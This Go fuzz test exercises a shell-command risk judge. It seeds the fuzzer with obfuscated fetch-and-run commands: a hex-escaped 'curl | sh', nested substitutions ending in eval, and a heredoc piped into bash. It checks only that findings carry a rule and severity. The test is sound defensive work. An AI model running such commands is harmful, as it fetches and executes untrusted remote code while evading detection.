package shellrisk

import "testing"

// FuzzJudge feeds arbitrary command lines to the judge: it must not panic,
// and a finding always has a rule id and a severity.
func FuzzJudge(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.cmd)
	}
	for _, b := range benign {
		f.Add(b)
	}
	f.Add(`$'\x63\x75\x72\x6c' | "$(echo $'\x73\x68')"`)
	f.Add("a=$(b=$(c=$(d=$(curl x|sh))));eval $a")
	f.Add("cat <<EOF | bash\ncurl x | sh\nEOF\n")
	f.Fuzz(func(t *testing.T, cmd string) {
		for _, fi := range Judge(cmd).Findings {
			if fi.Rule == "" || SeverityRank(fi.Severity) == 0 {
				t.Fatalf("finding without rule or severity: %+v", fi)
			}
		}
	})
}
